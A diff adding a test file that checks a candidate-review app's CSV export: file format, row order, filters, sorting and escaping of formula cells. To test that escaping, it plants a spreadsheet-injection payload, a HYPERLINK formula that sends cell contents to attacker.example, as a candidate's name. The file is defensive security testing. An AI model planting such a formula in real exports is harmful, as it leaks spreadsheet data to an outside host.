@@ -1,0 +1,143 @@
+import fs from 'node:fs';
+import { parse } from 'csv-parse/sync';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { createTestApp, type TestApp } from '../../test/test-app';
+import { testDatabaseKinds } from '../../test/test-databases';
+import { writeLiveWebm } from '../../test/test-video';
+import { locateFfmpeg, type FfmpegTools } from '../recordings/ffmpeg';
+import { CSV_COLUMNS } from './review-export';
+import { seedReviewFixture, type ReviewFixture } from './review-test-fixture';
+import { seedCandidate, type SeededCandidate } from './review-test-seed';
+
+const HYPERLINK = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")';
+
+describe.each(testDatabaseKinds())('the CSV export on %s', (kind) => {
+  let t: TestApp;
+  let f: ReviewFixture;
+  let planted: SeededCandidate;
+
+  beforeAll(async () => {
+    t = await createTestApp(kind);
+    const tools = (await locateFfmpeg()) as FfmpegTools;
+    f = await seedReviewFixture(t, fs.readFileSync(await writeLiveWebm(tools.ffmpeg, 3)));
+    planted = await seedCandidate(t, {
+      role: f.roles[0],
+      name: HYPERLINK,
+      email: 'planted@test.example',
+      answers: ['<p>+1 (555) 0100</p>', '<p>-2+3</p>', '<p>@SUM(A1:A9)</p>'],
+      feedback: { rating: 1, text: '@team thanks' },
+    });
+    await t.app.inject({
+      method: 'PATCH',
+      url: `/api/admin/candidates/${planted.id}/review`,
+      headers: t.admin,
+      payload: { notes: '\t=1+1', status: 'rejected' },
+    });
+  });
+  afterAll(() => t.close());
+
+  const exportCsv = async (search = '') => {
+    const response = await t.app.inject({
+      method: 'GET',
+      url: `/api/admin/export/candidates.csv${search ? `?${search}` : ''}`,
+      headers: t.admin,
+    });
+    expect(response.statusCode, response.body).toBe(200);
+    return response;
+  };
+  const records = (body: string) => parse(body, { bom: true }) as string[][];
+  const column = (name: string) => CSV_COLUMNS.indexOf(name);
+
+  it('is an RFC 4180 file with a BOM, CRLF line ends and a dated file name', async () => {
+    const response = await exportCsv();
+    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
+    const today = new Date().toISOString().slice(0, 10);
+    expect(response.headers['content-disposition']).toBe(
+      `attachment; filename="candidates-${today}.csv"`,
+    );
+    expect(response.rawPayload.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(true);
+    const body = response.rawPayload.subarray(3).toString('utf8');
+    expect(body.startsWith(`${CSV_COLUMNS.join(',')}\r\n`)).toBe(true);
+    expect(body.endsWith('\r\n')).toBe(true);
+    // Every line break outside a quoted cell is CRLF: no record ends with a bare LF.
+    expect(parse(body, { record_delimiter: '\r\n' })).toHaveLength(7);
+  });
+
+  it('holds every matching candidate in the list order, answers as plain text', async () => {
+    const rows = records((await exportCsv()).body);
+    expect(rows[0]).toEqual(CSV_COLUMNS);
+    expect(rows.slice(1).map((row) => row[column('Email')])).toEqual([
+      'planted@test.example',
+      'eve@test.example',
+      'dan@test.example',
+      'cleo@test.example',
+      'Bob.Smith@Test.example',
+      'ada@test.example',
+    ]);
+    const ada = rows.find((row) => row[column('Email')] === 'ada@test.example') as string[];
+    const role = f.roles[0];
+    expect(Object.fromEntries(CSV_COLUMNS.map((name, index) => [name, ada[index]]))).toEqual({
+      Name: 'Ada Lovelace',
+      Email: 'ada@test.example',
+      Social: 'https://profile.test.example',
+      Role: role.role,
+      Company: role.company.name,
+      Registered: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
+      Completed: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
+      Answered: '3',
+      Video: 'ready',
+      'Over time': 'No',
+      'Candidate rating': '4',
+      'Candidate feedback': 'Smooth',
+      Score: '5',
+      Status: 'Shortlisted',
+      Notes: '',
+      'Question 1': role.questions[0],
+      'Answer 1': 'First',
+      'Question 2': role.questions[1],
+      'Answer 2': 'Second',
+      'Question 3': role.questions[2],
+      'Answer 3': 'Third',
+    });
+    const bob = rows.find((row) => row[column('Email')] === 'Bob.Smith@Test.example') as string[];
+    expect(bob[column('Over time')]).toBe('Yes');
+    expect(bob[column('Answer 2')]).toBe('');
+    expect(bob[column('Score')]).toBe('');
+  });
+
+  it('neutralises every cell a spreadsheet would run as a formula', async () => {
+    const rows = records((await exportCsv()).body);
+    const row = rows.find((cells) => cells[column('Email')] === 'planted@test.example') as string[];
+    expect(row[column('Name')]).toBe(`'${HYPERLINK}`);
+    expect(row[column('Answer 1')]).toBe("'+1 (555) 0100");
+    expect(row[column('Answer 2')]).toBe("'-2+3");
+    expect(row[column('Answer 3')]).toBe("'@SUM(A1:A9)");
+    expect(row[column('Candidate feedback')]).toBe("'@team thanks");
+    expect(row[column('Notes')]).toBe("'\t=1+1");
+    for (const cells of rows) {
+      for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    }
+  });
+
+  it('applies the list filters and sort', async () => {
+    const emails = async (search: string) =>
+      records((await exportCsv(search)).body)
+        .slice(1)
+        .map((row) => row[column('Email')]);
+    expect(await emails('status=rejected')).toEqual(['planted@test.example', 'cleo@test.example']);
+    expect(await emails(`role=${f.roles[1].id}`)).toEqual([
+      'dan@test.example',
+      'Bob.Smith@Test.example',
+    ]);
+    expect(await emails('video=ready&overTime=false')).toEqual(['ada@test.example']);
+    expect(await emails('q=lovelace')).toEqual(['ada@test.example']);
+    expect(await emails('sort=score&status=on_hold')).toEqual(['dan@test.example']);
+    expect(await emails('q=nobody-matches')).toEqual([]);
+    const bad = await t.app.inject({
+      method: 'GET',
+      url: '/api/admin/export/candidates.csv?video=maybe',
+      headers: t.admin,
+    });
+    expect(bad.statusCode).toBe(400);
+  });
+});
